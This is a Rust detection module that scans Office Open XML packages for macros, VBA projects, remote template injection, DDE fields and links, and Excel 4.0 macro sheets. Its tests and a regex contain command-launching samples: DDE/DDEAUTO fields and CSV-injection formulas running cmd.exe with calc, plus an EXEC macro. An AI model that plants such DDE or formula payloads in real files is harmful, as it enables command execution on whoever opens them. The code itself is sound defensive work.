//! Office Open XML packages (docx/xlsx/pptx and the macro-enabled docm/xlsm/pptm): what the
//! parts say rather than what the name says. Macro-enabled content types and VBA projects,
//! external relationships that fetch a template or object when the file opens (remote template
//! injection), DDE fields, Excel 4.0 macro sheets, embedded objects.
//!
//! The zip opener has already listed the parts as children of the package; when the package
//! was not opened (nested deeper than the container limit), `read_parts` reads the parts that
//! matter from the zip itself, within its own small limits.

use super::xlm::{self, Xlm};
use quick_xml::events::{BytesStart, Event};
use quick_xml::reader::Reader;
use std::io::{Cursor, Read};

/// Bytes read from one part when the package is read here, at most.
const MAX_PART_BYTES: u64 = 16 << 20;
/// Bytes read from all parts when the package is read here, at most.
const MAX_READ_BYTES: u64 = 64 << 20;
/// XML events read from one part, at most.
const MAX_EVENTS: usize = 5_000_000;
/// Characters of a field instruction or target kept.
const MAX_TEXT: usize = 300;
/// Relationship types that fetch something when the document opens.
const FETCHING_RELATIONSHIPS: &[&str] = &["attachedtemplate", "oleobject", "frame", "subdocument"];

/// One part of the package.
#[derive(Debug, Clone, Copy)]
pub struct Part<'a> {
    pub name: &'a str,
    pub data: &'a [u8],
}

/// An external relationship that fetches something on open.
#[derive(Debug, Clone, PartialEq)]
pub struct External {
    /// The relationship type's last word (`attachedTemplate`, `oleObject`, `frame`, ...).
    pub kind: String,
    pub target: String,
}

/// What a package holds.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Ooxml {
    /// A macro-enabled content type declared in `[Content_Types].xml`.
    pub macro_content_type: Option<String>,
    /// The part holding a VBA project.
    pub vba_project: Option<String>,
    pub external: Vec<External>,
    /// DDE field instructions (Word) and DDE links (Excel).
    pub dde: Vec<String>,
    pub xlm: Option<Xlm>,
}

/// Whether the parts make an OOXML package.
pub fn is_package(parts: &[Part<'_>]) -> bool {
    parts.iter().any(|p| p.name == "[Content_Types].xml")
}

/// Analyses the parts of a package.
pub fn analyse(parts: &[Part<'_>]) -> Ooxml {
    let mut o = Ooxml::default();
    let mut macro_sheets = Vec::new();
    let mut functions = std::collections::BTreeSet::new();
    let mut auto_open = None;
    for part in parts {
        let lower = part.name.to_ascii_lowercase();
        if part.name == "[Content_Types].xml" {
            content_types(part.data, &mut o);
        } else if lower.ends_with(".rels") {
            relationships(part.data, &mut o.external);
        } else if lower.ends_with("vbaproject.bin") {
            o.vba_project.get_or_insert_with(|| part.name.to_string());
        } else if lower.starts_with("word/") && lower.ends_with(".xml") {
            o.dde.extend(word_fields(part.data));
        } else if lower.starts_with("xl/externallinks/") && lower.ends_with(".xml") {
            o.dde.extend(dde_links(part.data));
        } else if lower.starts_with("xl/externallinks/") && lower.ends_with(".bin") {
            o.dde.extend(dde_link_xlsb(part.data));
        } else if lower.starts_with("xl/macrosheets/") || lower.starts_with("xl/intlmacrosheets/") {
            if lower.ends_with(".rels") {
                continue;
            }
            let sheet = part.name.rsplit('/').next().unwrap_or(part.name);
            if sheet.to_ascii_lowercase().starts_with("binaryindex") {
                continue;
            }
            macro_sheets.push(sheet.to_string());
            if lower.ends_with(".bin") {
                functions.extend(xlm::ptg_functions(part.data));
            } else {
                functions.extend(xlm::text_functions(&String::from_utf8_lossy(part.data)));
            }
        } else if lower == "xl/workbook.xml" {
            let text = String::from_utf8_lossy(part.data).to_ascii_lowercase();
            if text.contains("\"_xlnm.auto_open") || text.contains("name=\"auto_open") {
                auto_open = Some("Auto_Open".to_string());
            }
        } else if lower == "xl/workbook.bin" {
            // Names are UTF-16 strings at any byte offset.
            for start in [0, 1] {
                let units: Vec<u16> = part
                    .data
                    .get(start..)
                    .unwrap_or_default()
                    .chunks_exact(2)
                    .map(|c| u16::from_le_bytes([c[0], c[1]]))
                    .collect();
                if String::from_utf16_lossy(&units)
                    .to_ascii_lowercase()
                    .contains("auto_open")
                {
                    auto_open = Some("Auto_Open".to_string());
                }
            }
        }
    }
    o.dde.truncate(10);
    o.external.truncate(10);
    if !macro_sheets.is_empty() {
        o.xlm = Some(Xlm {
            sheets: macro_sheets,
            functions,
            auto_open,
        });
    }
    o
}

/// Whether a relationship target is fetched from another machine: a web address, a UNC path
/// (which also hands the user's NTLM hash to that machine), `file://host/...`, or an `mhtml:`
/// wrapper around either (CVE-2021-40444).
pub fn remote_target(target: &str) -> bool {
    let t = target.trim().to_ascii_lowercase();
    let t = t.strip_prefix("mhtml:").unwrap_or(&t);
    if t.starts_with("http://") || t.starts_with("https://") || t.starts_with("ftp://") {
        return true;
    }
    if t.starts_with("\\\\") || t.starts_with("//") {
        return true;
    }
    if let Some(rest) = t.strip_prefix("file:") {
        let rest = rest.trim_start_matches('/');
        let rest_raw = t.strip_prefix("file:").unwrap_or_default();
        // `file:///C:/...` and `file:///home/...` are local; `file://host/share`,
        // `file:///\\host\share` and `file:\\host` are not.
        let is_drive = rest.as_bytes().get(1) == Some(&b':');
        return rest.starts_with("\\\\")
            || (rest_raw.starts_with("//") && !rest_raw.starts_with("///") && !is_drive)
            || rest_raw.starts_with("\\\\");
    }
    false
}

fn content_types(data: &[u8], o: &mut Ooxml) {
    each_element(data, |name, e, _| {
        if name != "Override" && name != "Default" {
            return;
        }
        if let Some(ct) = attr(e, "ContentType") {
            let lower = ct.to_ascii_lowercase();
            // The main part's macro-enabled type says more than the VBA part's own type.
            let seen_main = o
                .macro_content_type
                .as_deref()
                .is_some_and(|c| c.to_ascii_lowercase().contains("macroenabled"));
            if lower.contains("macroenabled") && !seen_main
                || lower == "application/vnd.ms-office.vbaproject" && o.macro_content_type.is_none()
            {
                o.macro_content_type = Some(ct);
            }
        }
    });
}

fn relationships(data: &[u8], out: &mut Vec<External>) {
    each_element(data, |name, e, _| {
        if name != "Relationship" {
            return;
        }
        let external = attr(e, "TargetMode").is_some_and(|m| m.eq_ignore_ascii_case("external"));
        let kind = attr(e, "Type")
            .map(|t| t.rsplit('/').next().unwrap_or_default().to_string())
            .unwrap_or_default();
        let Some(target) = attr(e, "Target") else {
            return;
        };
        if external
            && FETCHING_RELATIONSHIPS.contains(&kind.to_ascii_lowercase().as_str())
            && remote_target(&target)
            && !out.iter().any(|x| x.target == target)
        {
            out.push(External {
                kind,
                target: target.chars().take(MAX_TEXT).collect(),
            });
        }
    });
}

/// Field instructions of a WordprocessingML part that begin with DDE or DDEAUTO: `fldSimple`
/// `instr` attributes, and `instrText` runs joined between a field's `begin` and `separate`.
pub fn word_fields(data: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    let mut open: Vec<String> = Vec::new();
    each_element(data, |name, e, text| {
        match (name, text) {
            ("fldSimple", None) => {
                if let Some(instr) = attr(e, "instr") {
                    push_dde(&mut found, &instr);
                }
            }
            ("fldChar", None) => match attr(e, "fldCharType").as_deref() {
                Some("begin") if open.len() < 64 => open.push(String::new()),
                Some("separate") | Some("end") => {
                    if let Some(instr) = open.pop() {
                        push_dde(&mut found, &instr);
                        // A field stays open until `end`; its instruction is complete.
                        if attr(e, "fldCharType").as_deref() == Some("separate") {
                            open.push(String::from("\u{0}"));
                        }
                    }
                }
                _ => {}
            },
            ("instrText", Some(t)) => {
                if let Some(current) = open.last_mut()
                    && current.len() < MAX_TEXT * 4
                {
                    current.push_str(t);
                } else if open.is_empty() {
                    push_dde(&mut found, t);
                }
            }
            _ => {}
        }
    });
    found
}

fn push_dde(found: &mut Vec<String>, instr: &str) {
    let instr = instr.trim_start_matches('\0');
    let one_line: String = instr.split_whitespace().collect::<Vec<_>>().join(" ");
    let first = one_line
        .split(' ')
        .next()
        .unwrap_or_default()
        .to_ascii_uppercase();
    if (first == "DDE" || first == "DDEAUTO") && found.len() < 10 && !found.contains(&one_line) {
        found.push(one_line.chars().take(MAX_TEXT).collect());
    }
}

/// Excel DDE links (`<ddeLink ddeService="cmd" ddeTopic="/c calc">`), written as a formula would
/// be: `cmd|'/c calc'`.
fn dde_links(data: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    each_element(data, |name, e, _| {
        if name == "ddeLink" && found.len() < 10 {
            let service = attr(e, "ddeService").unwrap_or_default();
            let topic = attr(e, "ddeTopic").unwrap_or_default();
            found.push(
                format!("DDE {service}|'{topic}'")
                    .chars()
                    .take(MAX_TEXT)
                    .collect(),
            );
        }
    });
    found
}

/// An XLSB external link that is a DDE link: `BrtBeginSupBook` (record 0x02E8) of type DDE
/// (1), then the service and topic as UTF-16 strings with a 32-bit length.
fn dde_link_xlsb(data: &[u8]) -> Vec<String> {
    let wide = |at: usize| -> Option<(String, usize)> {
        let len = super::vba::le32(data, at)? as usize;
        let bytes = data.get(at + 4..at + 4 + len.checked_mul(2)?)?;
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        Some((String::from_utf16_lossy(&units), at + 4 + len * 2))
    };
    let parse = || -> Option<String> {
        if data.get(..2)? != [0xE8, 0x02] || *data.get(2)? >= 0x80 {
            return None;
        }
        if super::vba::le16(data, 3)? != 1 {
            return None;
        }
        let (service, next) = wide(5)?;
        let (topic, _) = wide(next)?;
        Some(format!("DDE {service}|'{topic}'"))
    };
    parse().into_iter().collect()
}

/// A spreadsheet formula that is a DDE call (`=cmd|'/c calc'!A0`): CSV injection and Excel
/// 2003 XML formulas.
pub fn dde_formulas(text: &str) -> Vec<String> {
    static DDE_FORMULA: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(
            r#"(?m)(?:^|[,;	"])\s*[=+\-@]\s*([A-Za-z0-9_.]{1,40}\s*\|\s*'[^'
]{0,300}'\s*!\s*[A-Za-z0-9$]{1,12})"#,
        )
        .expect("valid regex")
    });
    let text = text
        .replace("&apos;", "'")
        .replace("&quot;", "\"")
        .replace("&amp;", "&");
    DDE_FORMULA
        .captures_iter(&text)
        .filter_map(|c| c.get(1))
        .take(10)
        .map(|m| format!("DDE {}", m.as_str()))
        .collect()
}

/// Word and Excel 2003 XML ("flat" XML with `<?mso-application progid=...?>`): DDE fields
/// and DDE formulas.
pub fn flat_xml_dde(data: &[u8]) -> Option<Vec<String>> {
    // The markers are ASCII, found in the bytes as in their text (a lossy decoding keeps every
    // ASCII byte and puts nothing ASCII between two of them).
    let head = data.get(..4096).unwrap_or(data).to_ascii_lowercase();
    memchr::memmem::find(&head, b"<?mso-application")?;
    if memchr::memmem::find(&head, b"word.document").is_some() {
        return Some(word_fields(data));
    }
    Some(dde_formulas(&String::from_utf8_lossy(data)))
}

/// Calls `f(local name, element, text)` for every element start (text `None`) and for the text
/// inside each element (text `Some`, entities resolved), in document order. Stops quietly at
/// the first XML error or after `MAX_EVENTS`.
fn each_element(data: &[u8], mut f: impl FnMut(&str, &BytesStart<'_>, Option<&str>)) {
    let text = String::from_utf8_lossy(data);
    let mut reader = Reader::from_str(&text);
    reader.config_mut().check_end_names = false;
    let mut current: Option<BytesStart<'static>> = None;
    let mut buf = String::new();
    let flush = |current: &Option<BytesStart<'static>>,
                 buf: &mut String,
                 f: &mut dyn FnMut(&str, &BytesStart<'_>, Option<&str>)| {
        if let Some(e) = current
            && !buf.is_empty()
        {
            let name = e.local_name();
            f(name.as_ref(), e, Some(buf));
        }
        buf.clear();
    };
    for _ in 0..MAX_EVENTS {
        match reader.read_event() {
            Ok(Event::Start(e)) => {
                flush(&current, &mut buf, &mut f);
                f(e.local_name().as_ref(), &e, None);
                current = Some(e.into_owned());
            }
            Ok(Event::Empty(e)) => {
                flush(&current, &mut buf, &mut f);
                f(e.local_name().as_ref(), &e, None);
            }
            Ok(Event::End(_)) => {
                flush(&current, &mut buf, &mut f);
                current = None;
            }
            Ok(Event::Text(t)) => buf.push_str(&t.xml10_content()),
            Ok(Event::CData(t)) => buf.push_str(&t.into_inner()),
            Ok(Event::GeneralRef(r)) => {
                let name = r.xml10_content();
                if let Some(c) = entity(&name) {
                    buf.push(c);
                }
            }
            Ok(Event::Eof) | Err(_) => break,
            Ok(_) => {}
        }
    }
    flush(&current, &mut buf, &mut f);
}

fn entity(name: &str) -> Option<char> {
    match name {
        "quot" => Some('"'),
        "amp" => Some('&'),
        "lt" => Some('<'),
        "gt" => Some('>'),
        "apos" => Some('\''),
        _ => {
            let num = name.strip_prefix('#')?;
            let code = match num.strip_prefix(['x', 'X']) {
                Some(hex) => u32::from_str_radix(hex, 16).ok()?,
                None => num.parse().ok()?,
            };
            char::from_u32(code)
        }
    }
}

/// An attribute's value by local name, entities resolved.
fn attr(e: &BytesStart<'_>, name: &str) -> Option<String> {
    e.attributes().with_checks(false).flatten().find_map(|a| {
        (a.key.local_name().as_ref() == name).then(|| {
            a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                .map(|v| v.into_owned())
                .unwrap_or_else(|_| a.value.to_string())
        })
    })
}

/// Whether a part matters to the analysis (the rest are not read when reading a package here).
pub fn wanted(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    name == "[Content_Types].xml"
        || lower.ends_with(".rels")
        || lower.ends_with("vbaproject.bin")
        || (lower.starts_with("word/")
            && lower.ends_with(".xml")
            && !lower.starts_with("word/theme/"))
        || lower.starts_with("xl/externallinks/")
        || lower.starts_with("xl/macrosheets/")
        || lower.starts_with("xl/intlmacrosheets/")
        || lower == "xl/workbook.xml"
        || lower == "xl/workbook.bin"
        || (lower.contains("/embeddings/") && lower.ends_with(".bin"))
}

/// Reads the parts that matter from a zip, within this module's own limits (for packages the
/// expansion stage did not open). `None` when it is not a zip with `[Content_Types].xml`.
pub fn read_parts(data: &[u8]) -> Option<Vec<(String, Vec<u8>)>> {
    let mut archive = zip::ZipArchive::new(Cursor::new(data)).ok()?;
    let mut left = MAX_READ_BYTES;
    let mut parts = Vec::new();
    for i in 0..archive.len().min(10_000) {
        let Ok(mut file) = archive.by_index(i) else {
            continue;
        };
        let name = file.name().unwrap_or_default().to_string();
        if !wanted(&name) || file.encrypted() || left == 0 {
            continue;
        }
        let mut out = Vec::new();
        let cap = MAX_PART_BYTES.min(left);
        if (&mut file).take(cap).read_to_end(&mut out).is_err() {
            continue;
        }
        left -= out.len() as u64;
        parts.push((name, out));
    }
    parts
        .iter()
        .any(|(n, _)| n == "[Content_Types].xml")
        .then_some(parts)
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) const CONTENT_TYPES_DOCX: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;

    pub(crate) const CONTENT_TYPES_DOCM: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;

    pub(crate) fn document(body: &str) -> String {
        format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>"#
        )
    }

    pub(crate) fn settings_rels(target: &str) -> String {
        format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>"#
        )
    }

    fn parts<'a>(list: &'a [(&'a str, String)]) -> Vec<Part<'a>> {
        list.iter()
            .map(|(n, d)| Part {
                name: n,
                data: d.as_bytes(),
            })
            .collect()
    }

    #[test]
    fn content_types_and_remote_templates() {
        let list = [
            ("[Content_Types].xml", CONTENT_TYPES_DOCM.to_string()),
            (
                "word/_rels/settings.xml.rels",
                settings_rels("http://192.0.2.7/t/template.dotm"),
            ),
            (
                "word/document.xml",
                document("<w:p><w:r><w:t>Hello</w:t></w:r></w:p>"),
            ),
        ];
        let o = analyse(&parts(&list));
        assert!(o.macro_content_type.unwrap().contains("macroEnabled"));
        assert_eq!(
            o.external,
            [External {
                kind: "attachedTemplate".into(),
                target: "http://192.0.2.7/t/template.dotm".into()
            }]
        );
        assert!(o.dde.is_empty());
        let plain = [("[Content_Types].xml", CONTENT_TYPES_DOCX.to_string())];
        assert_eq!(analyse(&parts(&plain)), Ooxml::default());
    }

    #[test]
    fn targets_that_fetch_from_elsewhere() {
        for t in [
            "https://example.com/a.dotm",
            "HTTP://1.2.3.4/x",
            "\\\\198.51.100.3\\share\\t.dotx",
            "file://server/share/t.dotx",
            "file:///\\\\server\\share\\t.dotx",
            "mhtml:http://x.example/a.html!x-usc:http://x.example/a.html",
        ] {
            assert!(remote_target(t), "{t}");
        }
        for t in [
            "file:///C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
            "file:///C:/Templates/x.dotx",
            "Normal.dotm",
            "../media/image1.png",
        ] {
            assert!(!remote_target(t), "{t}");
        }
    }

    #[test]
    fn dde_fields_split_over_runs_and_simple_fields() {
        let body = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:fldSimple w:instr=" DDE c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot; "/><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "https://a.example/"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#;
        let f = word_fields(document(body).as_bytes());
        assert_eq!(
            f,
            [
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"",
                "DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""
            ]
        );
    }

    #[test]
    fn excel_dde_links_and_macro_sheets() {
        let list = [
            ("[Content_Types].xml", CONTENT_TYPES_DOCX.to_string()),
            (
                "xl/externalLinks/externalLink1.xml",
                r#"<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"#.to_string(),
            ),
            (
                "xl/macrosheets/sheet1.xml",
                r#"<xm:macrosheet><sheetData><row><c><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>"#.to_string(),
            ),
            (
                "xl/workbook.xml",
                r#"<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>"#.to_string(),
            ),
        ];
        let o = analyse(&parts(&list));
        assert_eq!(o.dde, ["DDE cmd|'/c calc'"]);
        let x = o.xlm.unwrap();
        assert_eq!(x.sheets, ["sheet1.xml"]);
        assert!(x.functions.contains("EXEC"));
        assert_eq!(x.auto_open.as_deref(), Some("Auto_Open"));
    }

    #[test]
    fn dde_in_csv_flat_xml_and_xlsb() {
        assert_eq!(
            dde_formulas("name,total\n=cmd|'/c calc.exe'!A0,1\n"),
            ["DDE cmd|'/c calc.exe'!A0"]
        );
        assert_eq!(
            dde_formulas("a,b\n=SUM(A1:A3),\"x|y\"\n"),
            Vec::<String>::new()
        );
        let xml = br#"<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><Cell ss:Formula="=cmd|&apos;/c calc&apos;!A1"/></Workbook>"#;
        assert_eq!(flat_xml_dde(xml).unwrap(), ["DDE cmd|'/c calc'!A1"]);
        assert!(flat_xml_dde(b"<?xml version=\"1.0\"?><a/>").is_none());
        let mut bin = vec![0xE8, 0x02, 0x20, 0x01, 0x00];
        for s in ["cmd", "/c calc"] {
            bin.extend_from_slice(&(s.len() as u32).to_le_bytes());
            bin.extend(s.encode_utf16().flat_map(|u| u.to_le_bytes()));
        }
        assert_eq!(dde_link_xlsb(&bin), ["DDE cmd|'/c calc'"]);
        assert!(dde_link_xlsb(&bin[..9]).is_empty());
    }

    #[test]
    fn broken_xml_does_not_panic() {
        for s in [
            "<",
            "<a b='&#xFFFFFFFF;'>",
            "<w:instrText>DDE &bogus; x",
            "\u{0}\u{1}<<>>",
            "<a></b></c>",
        ] {
            let _ = word_fields(s.as_bytes());
            let mut o = Ooxml::default();
            content_types(s.as_bytes(), &mut o);
            relationships(s.as_bytes(), &mut o.external);
        }
    }
}
